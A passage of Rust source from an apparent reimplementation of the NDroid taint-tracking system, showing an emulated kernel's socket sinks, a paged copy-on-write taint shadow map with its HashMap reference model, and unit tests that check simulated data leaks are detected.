    pub fn socket(&mut self) -> i32 {
        self.syscalls += 1;
        self.alloc_fd(FdObject::Socket { dest: None })
    }

    /// `connect(2)`.
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] if `fd` is not a socket.
    pub fn connect(&mut self, fd: i32, dest: &str) -> Result<(), EmuError> {
        self.syscalls += 1;
        match self.fd(fd)? {
            FdObject::Socket { dest: d } => {
                *d = Some(dest.to_string());
                Ok(())
            }
            FdObject::File { .. } => Err(EmuError::Kernel(format!("fd {fd} is not a socket"))),
        }
    }

    /// `send(2)` — a **sink** (Table VII's `send*`).
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] if `fd` is not a connected socket.
    pub fn send(&mut self, fd: i32, data: &[u8], taint: Taint) -> Result<usize, EmuError> {
        self.syscalls += 1;
        match self.fd(fd)? {
            FdObject::Socket { dest: Some(d) } => {
                let dest = d.clone();
                self.network_log.push((dest.clone(), data.to_vec(), taint));
                self.prov_sink("send", &dest, taint);
                self.events.push(LeakEvent {
                    sink: "send".to_string(),
                    dest,
                    data: String::from_utf8_lossy(data).into_owned(),
                    taint,
                    context: SinkContext::Native,
                });
                Ok(data.len())
            }
            FdObject::Socket { dest: None } => {
                Err(EmuError::Kernel(format!("fd {fd} not connected")))
            }
            FdObject::File { .. } => Err(EmuError::Kernel(format!("fd {fd} is not a socket"))),
        }
    }

    /// `sendto(2)` — a **sink**; the destination rides in the call
    /// (the ePhone log of Fig. 7 shows `sendto(36, REGISTER sip:…)`).
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] if `fd` is not a socket.
    pub fn sendto(
        &mut self,
        fd: i32,
        data: &[u8],
        dest: &str,
        taint: Taint,
    ) -> Result<usize, EmuError> {
        self.syscalls += 1;
        match self.fd(fd)? {
            FdObject::Socket { .. } => {
                self.network_log
                    .push((dest.to_string(), data.to_vec(), taint));
                self.prov_sink("sendto", dest, taint);
                self.events.push(LeakEvent {
                    sink: "sendto".to_string(),
                    dest: dest.to_string(),
                    data: String::from_utf8_lossy(data).into_owned(),
                    taint,
                    context: SinkContext::Native,
                });
                Ok(data.len())
            }
            FdObject::File { .. } => Err(EmuError::Kernel(format!("fd {fd} is not a socket"))),
        }
    }

    /// The native-context leaks recorded so far (tainted sink hits).
    pub fn leaks(&self) -> impl Iterator<Item = &LeakEvent> {
        self.events.iter().filter(|e| e.is_leak())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_write_read_roundtrip() {
        let mut k = Kernel::new();
        let fd = k.open("/sdcard/CONTACTS", true).unwrap();
        k.write(fd, b"1 Vincent cx@gg.com", Taint::CONTACTS).unwrap();
        k.close(fd).unwrap();
        let fd = k.open("/sdcard/CONTACTS", false).unwrap();
        let data = k.read(fd, 100).unwrap();
        assert_eq!(data, b"1 Vincent cx@gg.com");
        k.close(fd).unwrap();
    }

    #[test]
    fn file_write_is_a_sink() {
        let mut k = Kernel::new();
        let fd = k.open("/sdcard/x", true).unwrap();
        k.write(fd, b"secret", Taint::CONTACTS).unwrap();
        let leaks: Vec<_> = k.leaks().collect();
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].sink, "write");
        assert_eq!(leaks[0].dest, "/sdcard/x");
        assert_eq!(leaks[0].context, SinkContext::Native);
    }

    #[test]
    fn untainted_write_is_recorded_but_not_a_leak() {
        let mut k = Kernel::new();
        let fd = k.open("/tmp/log", true).unwrap();
        k.write(fd, b"boring", Taint::CLEAR).unwrap();
        assert_eq!(k.events.len(), 1);
        assert_eq!(k.leaks().count(), 0);
    }

    #[test]
    fn sockets_connect_send() {
        let mut k = Kernel::new();
        let s = k.socket();
        assert!(k.send(s, b"x", Taint::CLEAR).is_err(), "unconnected");
        k.connect(s, "info.3g.qq.com").unwrap();
        k.send(s, b"payload", Taint::SMS | Taint::CONTACTS).unwrap();
        assert_eq!(k.network_log.len(), 1);
        assert_eq!(k.network_log[0].0, "info.3g.qq.com");
        assert_eq!(k.leaks().count(), 1);
    }

    #[test]
    fn sendto_carries_destination() {
        let mut k = Kernel::new();
        let s = k.socket();
        k.sendto(s, b"REGISTER sip:...", "softphone.comwave.net", Taint::CONTACTS)
            .unwrap();
        let leaks: Vec<_> = k.leaks().collect();
        assert_eq!(leaks[0].sink, "sendto");
        assert_eq!(leaks[0].dest, "softphone.comwave.net");
    }

    #[test]
    fn fd_errors() {
        let mut k = Kernel::new();
        assert!(k.open("/missing", false).is_err());
        assert!(k.close(99).is_err());
        assert!(k.read(99, 1).is_err());
        let fd = k.open("/a", true).unwrap();
        let s = k.socket();
        k.close(fd).unwrap();
        assert!(k.close(fd).is_err(), "double close");
        assert!(k.connect(fd, "x").is_err(), "closed fd");
        let f2 = k.open("/b", true).unwrap();
        assert!(k.connect(f2, "x").is_err(), "file is not a socket");
        assert!(k.sendto(f2, b"", "d", Taint::CLEAR).is_err());
        let _ = s;
    }

    #[test]
    fn malloc_free_reuse() {
        let mut h = NativeHeap::new();
        let a = h.malloc(100);
        let b = h.malloc(100);
        assert_ne!(a, 0);
        assert_ne!(b, 0);
        assert_ne!(a, b);
        assert!(crate::layout::in_native_heap(a));
        assert_eq!(h.size_of(a), Some(104)); // aligned up
        assert_eq!(h.live(), 2);
        h.free(a);
        assert_eq!(h.live(), 1);
        let c = h.malloc(50);
        assert_eq!(c, a, "free block reused first-fit");
    }

    #[test]
    fn malloc_zero_and_exhaustion() {
        let mut h = NativeHeap::new();
        let a = h.malloc(0);
        assert_ne!(a, 0, "malloc(0) still returns a unique block");
        let big = h.malloc(layout::NATIVE_HEAP_SIZE);
        assert_eq!(big, 0, "exhaustion returns NULL");
    }

    #[test]
    fn read_advances_position() {
        let mut k = Kernel::new();
        k.fs.insert("/data".into(), b"abcdef".to_vec());
        let fd = k.open("/data", false).unwrap();
        assert_eq!(k.read(fd, 3).unwrap(), b"abc");
        assert_eq!(k.read(fd, 3).unwrap(), b"def");
        assert_eq!(k.read(fd, 3).unwrap(), b"");
    }
}
