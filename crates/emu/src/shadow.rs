//! NDroid's taint shadow state.
//!
//! "NDroid maintains shadow registers to store the related registers'
//! taints and a taint map to store the memories' taints. The taint
//! granularity of NDroid is byte. The general propagation logic behind
//! NDroid follows the 'or' operation." (§V-E)
//!
//! The shadow state also holds the *object taint map* keyed by indirect
//! reference — "the shadow memory uses the indirect reference as key to
//! locate the taint information" because direct pointers move under GC
//! (§V-B).
//!
//! # Paged layout
//!
//! [`TaintMap`] mirrors the 4 KiB page structure of guest memory
//! ([`ndroid_arm::mem`]): a page index over lazily materialized
//! `Box<[Taint; PAGE_SIZE]>` bodies, a one-entry TLB for the strongly
//! local access patterns of the instruction tracer, and two per-page
//! summary words — `live` (exact count of tainted bytes) and `summary`
//! (an over-approximate union of the labels stored since the page was
//! last fully clean). Clean pages answer `get`/`range_taint` without
//! touching the page body, and every range operation works on page
//! slices instead of per-byte map probes. [`HashTaintMap`] preserves
//! the previous sparse-`HashMap` implementation as the reference model
//! for the differential property test and the `BENCH_taint` suite; it
//! will be removed once the paged map has soaked.

use ndroid_arm::mem::{PAGE_MASK, PAGE_SHIFT, PAGE_SIZE};
use ndroid_dvm::{IndirectRef, Taint};
use std::cell::Cell;
use std::collections::HashMap;
use std::rc::Rc;

/// One 4 KiB page of byte taints plus its summary words.
#[derive(Debug, Clone)]
struct TaintPage {
    taints: Box<[Taint; PAGE_SIZE]>,
    /// Exact number of currently tainted (nonzero) bytes on the page.
    /// `live == 0` is the clean fast path: readers skip the body.
    live: u32,
    /// Union of every label stored while the page had tainted bytes —
    /// an over-approximation of the union of the page's current bytes,
    /// reset to `CLEAR` whenever `live` drops to 0. `range_taint` uses
    /// it to skip pages that cannot contribute new label bits.
    summary: Taint,
}

impl TaintPage {
    fn new() -> TaintPage {
        TaintPage {
            taints: Box::new([Taint::CLEAR; PAGE_SIZE]),
            live: 0,
            summary: Taint::CLEAR,
        }
    }
}

fn count_tainted(s: &[Taint]) -> usize {
    s.iter().filter(|t| t.is_tainted()).count()
}

/// Byte-granular shadow memory for taints, organized as two-level
/// paged storage (see the module docs). Only pages that have ever held
/// taint are materialized, so a mostly-clean guest still costs almost
/// nothing — one of the reasons NDroid is cheaper than whole-system
/// approaches.
///
/// Pages are `Rc`-shared **copy-on-write**, mirroring guest
/// [`Memory`](ndroid_arm::Memory): `clone` copies only the page table
/// and every mutator privatizes the touched page lazily via
/// `Rc::make_mut`, so snapshot/fork of a warmed system shares shadow
/// pages the same way it shares guest pages. Unlike guest memory the
/// taint map needs no epoch: nothing external pins its slots — its
/// one-entry TLB is internal and reset on clone.
#[derive(Debug, Default)]
pub struct TaintMap {
    pages: Vec<Rc<TaintPage>>,
    index: HashMap<u32, u32>,
    tlb: Cell<Option<(u32, u32)>>, // (page number, pages[] slot)
}

impl Clone for TaintMap {
    fn clone(&self) -> TaintMap {
        TaintMap {
            pages: self.pages.clone(),
            index: self.index.clone(),
            tlb: Cell::new(None),
        }
    }
}

impl TaintMap {
    /// An empty (all-clear) map.
    pub fn new() -> TaintMap {
        TaintMap::default()
    }

    #[inline]
    fn slot_of(&self, pageno: u32) -> Option<u32> {
        if let Some((p, slot)) = self.tlb.get() {
            if p == pageno {
                return Some(slot);
            }
        }
        let slot = *self.index.get(&pageno)?;
        self.tlb.set(Some((pageno, slot)));
        Some(slot)
    }

    #[inline]
    fn slot_or_alloc(&mut self, pageno: u32) -> u32 {
        if let Some(slot) = self.slot_of(pageno) {
            return slot;
        }
        let slot = self.pages.len() as u32;
        self.pages.push(Rc::new(TaintPage::new()));
        self.index.insert(pageno, slot);
        self.tlb.set(Some((pageno, slot)));
        slot
    }

    /// The taint of one byte.
    #[inline]
    pub fn get(&self, addr: u32) -> Taint {
        match self.slot_of(addr >> PAGE_SHIFT) {
            Some(slot) => {
                let p = &self.pages[slot as usize];
                if p.live == 0 {
                    Taint::CLEAR
                } else {
                    p.taints[(addr & PAGE_MASK) as usize]
                }
            }
            None => Taint::CLEAR,
        }
    }

    /// Overwrites one byte's taint.
    #[inline]
    pub fn set(&mut self, addr: u32, taint: Taint) {
        if taint.is_clear() {
            // Never materialize a page just to store CLEAR.
            let Some(slot) = self.slot_of(addr >> PAGE_SHIFT) else {
                return;
            };
            // Check via a shared borrow first so an all-clear store
            // never privatizes a CoW-shared page.
            let off = (addr & PAGE_MASK) as usize;
            {
                let p = &self.pages[slot as usize];
                if p.live == 0 || p.taints[off].is_clear() {
                    return;
                }
            }
            let p = Rc::make_mut(&mut self.pages[slot as usize]);
            p.taints[off] = Taint::CLEAR;
            p.live -= 1;
            if p.live == 0 {
                p.summary = Taint::CLEAR;
            }
        } else {
            let slot = self.slot_or_alloc(addr >> PAGE_SHIFT);
            let p = Rc::make_mut(&mut self.pages[slot as usize]);
            let b = &mut p.taints[(addr & PAGE_MASK) as usize];
            if b.is_clear() {
                p.live += 1;
            }
            *b = taint;
            p.summary |= taint;
        }
    }

    /// Unions `taint` into one byte.
    #[inline]
    pub fn add(&mut self, addr: u32, taint: Taint) {
        if taint.is_clear() {
            return;
        }
        let slot = self.slot_or_alloc(addr >> PAGE_SHIFT);
        let p = Rc::make_mut(&mut self.pages[slot as usize]);
        let b = &mut p.taints[(addr & PAGE_MASK) as usize];
        if b.is_clear() {
            p.live += 1;
        }
        *b |= taint;
        p.summary |= taint;
    }

    /// Overwrites a byte range with `taint`, page slice by page slice.
    pub fn set_range(&mut self, addr: u32, len: u32, taint: Taint) {
        if taint.is_clear() {
            self.clear_range(addr, len);
            return;
        }
        let mut i = 0u32;
        while i < len {
            let a = addr.wrapping_add(i);
            let off = (a & PAGE_MASK) as usize;
            let n = ((PAGE_SIZE - off) as u32).min(len - i) as usize;
            let slot = self.slot_or_alloc(a >> PAGE_SHIFT);
            let p = Rc::make_mut(&mut self.pages[slot as usize]);
            let already = if n == PAGE_SIZE {
                p.live as usize
            } else {
                count_tainted(&p.taints[off..off + n])
            };
            p.taints[off..off + n].fill(taint);
            p.live += (n - already) as u32;
            p.summary |= taint;
            i += n as u32;
        }
    }

    /// Unions `taint` over a byte range.
    pub fn add_range(&mut self, addr: u32, len: u32, taint: Taint) {
        if taint.is_clear() {
            return;
        }
        let mut i = 0u32;
        while i < len {
            let a = addr.wrapping_add(i);
            let off = (a & PAGE_MASK) as usize;
            let n = ((PAGE_SIZE - off) as u32).min(len - i) as usize;
            let slot = self.slot_or_alloc(a >> PAGE_SHIFT);
            let p = Rc::make_mut(&mut self.pages[slot as usize]);
            let mut newly = 0u32;
            for b in &mut p.taints[off..off + n] {
                if b.is_clear() {
                    newly += 1;
                }
                *b |= taint;
            }
            p.live += newly;
            p.summary |= taint;
            i += n as u32;
        }
    }

    /// The union of taints over a byte range. Clean pages are skipped
    /// via the `live` count, and pages whose `summary` cannot add new
    /// label bits are skipped without scanning.
    pub fn range_taint(&self, addr: u32, len: u32) -> Taint {
        let mut acc = Taint::CLEAR;
        let mut i = 0u32;
        while i < len {
            let a = addr.wrapping_add(i);
            let off = (a & PAGE_MASK) as usize;
            let n = ((PAGE_SIZE - off) as u32).min(len - i) as usize;
            if let Some(slot) = self.slot_of(a >> PAGE_SHIFT) {
                let p = &self.pages[slot as usize];
                if p.live != 0 && p.summary.0 & !acc.0 != 0 {
                    for b in &p.taints[off..off + n] {
                        acc |= *b;
                    }
                }
            }
            i += n as u32;
        }
        acc
    }

    /// Clears a byte range.
    pub fn clear_range(&mut self, addr: u32, len: u32) {
        let mut i = 0u32;
        while i < len {
            let a = addr.wrapping_add(i);
            let off = (a & PAGE_MASK) as usize;
            let n = ((PAGE_SIZE - off) as u32).min(len - i) as usize;
            self.clear_chunk(a >> PAGE_SHIFT, off, n);
            i += n as u32;
        }
    }

    /// Clears `n` bytes on one page (no-op for unmapped/clean pages).
    fn clear_chunk(&mut self, pageno: u32, off: usize, n: usize) {
        let Some(slot) = self.slot_of(pageno) else {
            return;
        };
        // Decide through a shared borrow whether anything will change,
        // so clearing an already-clean span never privatizes a
        // CoW-shared page.
        let cleared = {
            let p = &self.pages[slot as usize];
            if p.live == 0 {
                return;
            }
            if n == PAGE_SIZE {
                p.live as usize
            } else {
                count_tainted(&p.taints[off..off + n])
            }
        };
        if cleared == 0 {
            return;
        }
        let p = Rc::make_mut(&mut self.pages[slot as usize]);
        p.taints[off..off + n].fill(Taint::CLEAR);
        p.live -= cleared as u32;
        if p.live == 0 {
            p.summary = Taint::CLEAR;
        }
    }

    /// Copies taints from `src` to `dst` (the `memcpy` model of the
    /// paper's Listing 3), allocation-free: overlap is handled by copy
    /// direction (memmove-style), and each chunk is a page-slice
    /// `copy_from_slice`/`copy_within` rather than per-byte probes.
    pub fn copy_range(&mut self, dst: u32, src: u32, len: u32) {
        let d = dst.wrapping_sub(src);
        if d == 0 || len == 0 {
            return;
        }
        if d < len {
            // dst overlaps ahead of src: copy high-to-low so no source
            // byte is overwritten before it is read.
            let mut remaining = len;
            while remaining > 0 {
                let s_end = src.wrapping_add(remaining);
                let d_end = dst.wrapping_add(remaining);
                // Bytes available back to each page's start (1..=PAGE).
                let s_room = ((s_end.wrapping_sub(1) & PAGE_MASK) + 1).min(remaining);
                let n = ((d_end.wrapping_sub(1) & PAGE_MASK) + 1).min(s_room);
                let i = remaining - n;
                self.copy_chunk(dst.wrapping_add(i), src.wrapping_add(i), n as usize);
                remaining = i;
            }
        } else {
            let mut i = 0u32;
            while i < len {
                let s = src.wrapping_add(i);
                let dd = dst.wrapping_add(i);
                let s_room = ((PAGE_SIZE as u32) - (s & PAGE_MASK)).min(len - i);
                let n = ((PAGE_SIZE as u32) - (dd & PAGE_MASK)).min(s_room);
                self.copy_chunk(dd, s, n as usize);
                i += n;
            }
        }
    }

    /// Copies `n` bytes between two single-page slices (which may be
    /// the same page; `copy_within` handles intra-page overlap).
    fn copy_chunk(&mut self, dst: u32, src: u32, n: usize) {
        let d_off = (dst & PAGE_MASK) as usize;
        let s_off = (src & PAGE_MASK) as usize;
        let Some(s_slot) = self.slot_of(src >> PAGE_SHIFT) else {
            self.clear_chunk(dst >> PAGE_SHIFT, d_off, n);
            return;
        };
        let sp = &self.pages[s_slot as usize];
        if sp.live == 0 || count_tainted(&sp.taints[s_off..s_off + n]) == 0 {
            self.clear_chunk(dst >> PAGE_SHIFT, d_off, n);
            return;
        }
        if src >> PAGE_SHIFT == dst >> PAGE_SHIFT {
            let p = Rc::make_mut(&mut self.pages[s_slot as usize]);
            let before = count_tainted(&p.taints[d_off..d_off + n]);
            p.taints.copy_within(s_off..s_off + n, d_off);
            let after = count_tainted(&p.taints[d_off..d_off + n]);
            p.live -= before as u32;
            p.live += after as u32;
            if p.live == 0 {
                p.summary = Taint::CLEAR;
            }
            return;
        }
        let d_slot = self.slot_or_alloc(dst >> PAGE_SHIFT);
        debug_assert_ne!(s_slot, d_slot);
        // A cheap handle clone of the source page stands in for the
        // old split-borrow dance: with Rc pages, aliasing the source
        // while privatizing the destination is a refcount bump.
        let sp = Rc::clone(&self.pages[s_slot as usize]);
        let dp = Rc::make_mut(&mut self.pages[d_slot as usize]);
        let before = count_tainted(&dp.taints[d_off..d_off + n]);
        dp.taints[d_off..d_off + n].copy_from_slice(&sp.taints[s_off..s_off + n]);
        let after = count_tainted(&dp.taints[d_off..d_off + n]);
        dp.live -= before as u32;
        dp.live += after as u32;
        dp.summary |= sp.summary;
        if dp.live == 0 {
            dp.summary = Taint::CLEAR;
        }
    }

    /// Number of tainted bytes.
    pub fn tainted_bytes(&self) -> usize {
        self.pages.iter().map(|p| p.live as usize).sum()
    }

    /// Number of shadow pages currently materialized.
    pub fn page_count(&self) -> usize {
        self.pages.len()
    }

    /// Number of shadow pages exclusively owned by this map (see
    /// [`Memory::resident_pages`](ndroid_arm::Memory::resident_pages);
    /// 0 right after a clone, grows as writes privatize pages).
    pub fn resident_pages(&self) -> usize {
        self.pages.iter().filter(|p| Rc::strong_count(p) == 1).count()
    }

    /// Every `(address, taint)` pair with a non-clear taint, sorted by
    /// address — the canonical form the differential oracle diffs
    /// byte-for-byte against the reference map.
    pub fn tainted_entries(&self) -> Vec<(u32, Taint)> {
        let mut out = Vec::new();
        for (pageno, slot) in &self.index {
            let p = &self.pages[*slot as usize];
            if p.live == 0 {
                continue;
            }
            let base = pageno << PAGE_SHIFT;
            for (off, t) in p.taints.iter().enumerate() {
                if t.is_tainted() {
                    out.push((base.wrapping_add(off as u32), *t));
                }
            }
        }
        out.sort_unstable_by_key(|(a, _)| *a);
        out
    }
}

/// The pre-paging sparse `HashMap<u32, Taint>` shadow memory, one
/// entry per tainted byte. Kept as the executable reference model for
/// the paged [`TaintMap`]: the differential property test replays the
/// same operation sequences against both, and `BENCH_taint.json`
/// records the speedup. Scheduled for removal once the paged map has
/// soaked for a few PRs.
#[derive(Debug, Default, Clone)]
pub struct HashTaintMap {
    bytes: HashMap<u32, Taint>,
}

impl HashTaintMap {
    /// An empty (all-clear) map.
    pub fn new() -> HashTaintMap {
        HashTaintMap::default()
    }

    /// The taint of one byte.
    #[inline]
    pub fn get(&self, addr: u32) -> Taint {
        self.bytes.get(&addr).copied().unwrap_or(Taint::CLEAR)
    }

    /// Overwrites one byte's taint (clearing removes the entry).
    #[inline]
    pub fn set(&mut self, addr: u32, taint: Taint) {
        if taint.is_clear() {
            self.bytes.remove(&addr);
        } else {
            self.bytes.insert(addr, taint);
        }
    }

    /// Unions `taint` into one byte.
    #[inline]
    pub fn add(&mut self, addr: u32, taint: Taint) {
        if taint.is_tainted() {
            *self.bytes.entry(addr).or_insert(Taint::CLEAR) |= taint;
        }
    }

    /// Overwrites a byte range with `taint`.
    pub fn set_range(&mut self, addr: u32, len: u32, taint: Taint) {
        for i in 0..len {
            self.set(addr.wrapping_add(i), taint);
        }
    }

    /// Unions `taint` over a byte range.
    pub fn add_range(&mut self, addr: u32, len: u32, taint: Taint) {
        for i in 0..len {
            self.add(addr.wrapping_add(i), taint);
        }
    }

    /// The union of taints over a byte range.
    pub fn range_taint(&self, addr: u32, len: u32) -> Taint {
        let mut t = Taint::CLEAR;
        for i in 0..len {
            t |= self.get(addr.wrapping_add(i));
        }
        t
    }

    /// Clears a byte range.
    pub fn clear_range(&mut self, addr: u32, len: u32) {
        for i in 0..len {
            self.bytes.remove(&addr.wrapping_add(i));
        }
    }

    /// Copies taints byte-by-byte from `src` to `dst`, collecting into
    /// an intermediate `Vec` first (the allocation the paged map's
    /// directional copy eliminates).
    pub fn copy_range(&mut self, dst: u32, src: u32, len: u32) {
        let taints: Vec<Taint> = (0..len).map(|i| self.get(src.wrapping_add(i))).collect();
        for (i, t) in taints.into_iter().enumerate() {
            self.set(dst.wrapping_add(i as u32), t);
        }
    }

    /// Number of tainted bytes.
    pub fn tainted_bytes(&self) -> usize {
        self.bytes.len()
    }

    /// Every `(address, taint)` pair with a non-clear taint, sorted by
    /// address (see [`TaintMap::tainted_entries`]).
    pub fn tainted_entries(&self) -> Vec<(u32, Taint)> {
        let mut out: Vec<(u32, Taint)> = self.bytes.iter().map(|(a, t)| (*a, *t)).collect();
        out.sort_unstable_by_key(|(a, _)| *a);
        out
    }
}

/// Shadow state for the **reference taint engine** of the differential
/// oracle: the same register/VFP files as [`ShadowState`] but backed by
/// the sparse [`HashTaintMap`] — no pages, no TLB, no summary words.
/// Deliberately the simplest state that can hold Table V's facts, so
/// a disagreement with the optimized pipeline indicts the fast paths,
/// not the model.
#[derive(Debug, Default, Clone)]
pub struct RefShadowState {
    /// Shadow core registers (`tR0`…`tR15`).
    pub regs: [Taint; 16],
    /// Shadow VFP registers (S0–S31).
    pub vfp: [Taint; 32],
    /// Byte-granular memory taint, sparse-HashMap backed.
    pub mem: HashTaintMap,
}

impl RefShadowState {
    /// A fresh, all-clear reference shadow state.
    pub fn new() -> RefShadowState {
        RefShadowState::default()
    }
}

/// The complete native-context taint state.
#[derive(Debug, Default, Clone)]
pub struct ShadowState {
    /// Shadow core registers (`tR0`…`tR15`).
    pub regs: [Taint; 16],
    /// Shadow VFP registers (S0–S31).
    pub vfp: [Taint; 32],
    /// Byte-granular memory taint map.
    pub mem: TaintMap,
    /// Java-object taints visible from the native context, keyed by
    /// **indirect reference** so GC moves cannot stale them (§V-B).
    pub objects: HashMap<IndirectRef, Taint>,
    /// Count of taint-propagation operations performed (for overhead
    /// accounting in the benchmarks).
    pub ops: u64,
    /// Provenance recorder shared with the DVM and the kernel model
    /// (defaults to `Level::Off`: no ring, nothing recorded).
    pub prov: ndroid_provenance::Handle,
}

impl ShadowState {
    /// A fresh, all-clear shadow state.
    pub fn new() -> ShadowState {
        ShadowState::default()
    }

    /// Clears every shadow register (e.g. on a fresh native call).
    pub fn clear_regs(&mut self) {
        self.regs = [Taint::CLEAR; 16];
        self.vfp = [Taint::CLEAR; 32];
    }

    /// The taint recorded for a Java object reference.
    pub fn object_taint(&self, r: IndirectRef) -> Taint {
        self.objects.get(&r).copied().unwrap_or(Taint::CLEAR)
    }

    /// Unions taint onto a Java object reference.
    pub fn taint_object(&mut self, r: IndirectRef, taint: Taint) {
        if taint.is_tainted() {
            *self.objects.entry(r).or_insert(Taint::CLEAR) |= taint;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_dvm::IndirectRef;

    #[test]
    fn byte_granularity() {
        let mut m = TaintMap::new();
        m.set(0x1000, Taint::IMEI);
        assert_eq!(m.get(0x1000), Taint::IMEI);
        assert_eq!(m.get(0x1001), Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 1);
    }

    #[test]
    fn add_unions() {
        let mut m = TaintMap::new();
        m.add(5, Taint::SMS);
        m.add(5, Taint::CONTACTS);
        assert_eq!(m.get(5), Taint::SMS | Taint::CONTACTS);
        m.add(6, Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 1, "clear adds are free");
    }

    #[test]
    fn set_clear_removes_entry() {
        let mut m = TaintMap::new();
        m.set(7, Taint::IMEI);
        m.set(7, Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 0);
    }

    #[test]
    fn clear_never_materializes_pages() {
        let mut m = TaintMap::new();
        m.set(0x9000, Taint::CLEAR);
        m.set_range(0x20_0000, 0x3000, Taint::CLEAR);
        m.clear_range(0x30_0000, 0x3000);
        m.add_range(0x40_0000, 0x3000, Taint::CLEAR);
        assert_eq!(m.page_count(), 0, "clear writes stay free");
        assert_eq!(m.range_taint(0x20_0000, 0x3000), Taint::CLEAR);
    }

    #[test]
    fn range_operations() {
        let mut m = TaintMap::new();
        m.set_range(0x100, 8, Taint::SMS);
        assert_eq!(m.range_taint(0x100, 8), Taint::SMS);
        assert_eq!(m.range_taint(0x108, 4), Taint::CLEAR);
        assert_eq!(m.range_taint(0x0FC, 8), Taint::SMS, "partial overlap unions");
        m.clear_range(0x100, 4);
        assert_eq!(m.range_taint(0x100, 4), Taint::CLEAR);
        assert_eq!(m.range_taint(0x104, 4), Taint::SMS);
    }

    #[test]
    fn range_operations_cross_pages() {
        let mut m = TaintMap::new();
        let base = 0x3000 - 16; // straddles a page boundary
        m.set_range(base, 64, Taint::SMS);
        assert_eq!(m.page_count(), 2);
        assert_eq!(m.tainted_bytes(), 64);
        assert_eq!(m.range_taint(base, 64), Taint::SMS);
        m.add_range(base + 8, 16, Taint::IMEI);
        assert_eq!(m.range_taint(base, 8), Taint::SMS);
        assert_eq!(m.range_taint(base + 8, 16), Taint::SMS | Taint::IMEI);
        m.clear_range(base, 64);
        assert_eq!(m.tainted_bytes(), 0);
        assert_eq!(m.range_taint(base, 64), Taint::CLEAR);
    }

    #[test]
    fn set_range_wraps_address_space() {
        let mut m = TaintMap::new();
        m.set_range(u32::MAX - 3, 8, Taint::MIC);
        assert_eq!(m.get(u32::MAX), Taint::MIC);
        assert_eq!(m.get(3), Taint::MIC);
        assert_eq!(m.get(4), Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 8);
    }

    #[test]
    fn copy_range_models_memcpy() {
        let mut m = TaintMap::new();
        m.set(0x200, Taint::IMEI);
        m.set(0x202, Taint::SMS);
        m.copy_range(0x300, 0x200, 4);
        assert_eq!(m.get(0x300), Taint::IMEI);
        assert_eq!(m.get(0x301), Taint::CLEAR);
        assert_eq!(m.get(0x302), Taint::SMS);
    }

    #[test]
    fn copy_range_handles_overlap() {
        let mut m = TaintMap::new();
        m.set(0x400, Taint::IMEI);
        m.copy_range(0x401, 0x400, 4); // overlapping forward copy
        assert_eq!(m.get(0x401), Taint::IMEI);
        assert_eq!(m.get(0x402), Taint::CLEAR);
    }

    #[test]
    fn copy_range_overlap_backward() {
        let mut m = TaintMap::new();
        m.set(0x503, Taint::SMS);
        m.copy_range(0x500, 0x501, 4); // dst < src overlap
        assert_eq!(m.get(0x502), Taint::SMS);
        assert_eq!(m.get(0x503), Taint::CLEAR, "overwritten by clear source byte");
    }

    #[test]
    fn copy_range_across_pages_with_skew() {
        // src and dst straddle different page boundaries, so chunking
        // must split on both.
        let mut m = TaintMap::new();
        for i in 0..32 {
            if i % 3 == 0 {
                m.set(0x1FF0 + i, Taint::CONTACTS);
            }
        }
        m.copy_range(0x4FFB, 0x1FF0, 32);
        for i in 0..32u32 {
            let want = if i % 3 == 0 { Taint::CONTACTS } else { Taint::CLEAR };
            assert_eq!(m.get(0x4FFB + i), want, "byte {i}");
        }
    }

    #[test]
    fn copy_from_unmapped_clears_destination() {
        let mut m = TaintMap::new();
        m.set_range(0x800, 8, Taint::IMEI);
        m.copy_range(0x800, 0x9_0000, 8); // source never touched
        assert_eq!(m.tainted_bytes(), 0);
    }

    #[test]
    fn clone_is_copy_on_write() {
        let mut m = TaintMap::new();
        m.set_range(0x1000, 2 * PAGE_SIZE as u32, Taint::IMEI);
        assert_eq!(m.resident_pages(), 2);
        let mut fork = m.clone();
        assert_eq!(fork.resident_pages(), 0, "all pages shared at clone");
        assert_eq!(fork.tainted_bytes(), m.tainted_bytes());

        // Writing one byte privatizes exactly one page, one side only.
        fork.add(0x1004, Taint::SMS);
        assert_eq!(fork.resident_pages(), 1);
        assert_eq!(fork.get(0x1004), Taint::IMEI | Taint::SMS);
        assert_eq!(m.get(0x1004), Taint::IMEI, "original unaffected");

        // Reads and no-op mutations never privatize shared pages.
        let shared_before = fork.page_count() - fork.resident_pages();
        let _ = fork.get(0x2004);
        let _ = fork.range_taint(0x2000, 64);
        fork.set(0x5_0000, Taint::CLEAR); // unmapped, stays unmapped
        fork.clear_range(0x2_0000, 64); // unmapped span
        assert_eq!(fork.page_count() - fork.resident_pages(), shared_before);

        // Clearing everything on the fork leaves the original intact.
        fork.clear_range(0x1000, 2 * PAGE_SIZE as u32);
        assert_eq!(fork.tainted_bytes(), 0);
        assert_eq!(m.tainted_bytes(), 2 * PAGE_SIZE);
        assert_eq!(m.tainted_entries().len(), 2 * PAGE_SIZE);
    }

    #[test]
    fn cow_copy_range_across_pages_after_clone() {
        let mut m = TaintMap::new();
        m.set_range(0x1FF0, 32, Taint::CONTACTS);
        let mut fork = m.clone();
        fork.copy_range(0x4FFB, 0x1FF0, 32);
        assert_eq!(fork.range_taint(0x4FFB, 32), Taint::CONTACTS);
        assert_eq!(m.range_taint(0x4FFB, 32), Taint::CLEAR);
        assert_eq!(fork.range_taint(0x1FF0, 32), Taint::CONTACTS, "source intact");
    }

    #[test]
    fn object_taints_keyed_by_indirect_ref() {
        let mut s = ShadowState::new();
        let r = IndirectRef(0xa890_0025);
        assert_eq!(s.object_taint(r), Taint::CLEAR);
        s.taint_object(r, Taint::IMEI);
        s.taint_object(r, Taint::SMS);
        assert_eq!(s.object_taint(r), Taint::IMEI | Taint::SMS);
    }

    #[test]
    fn clear_regs_resets() {
        let mut s = ShadowState::new();
        s.regs[0] = Taint::IMEI;
        s.vfp[3] = Taint::SMS;
        s.clear_regs();
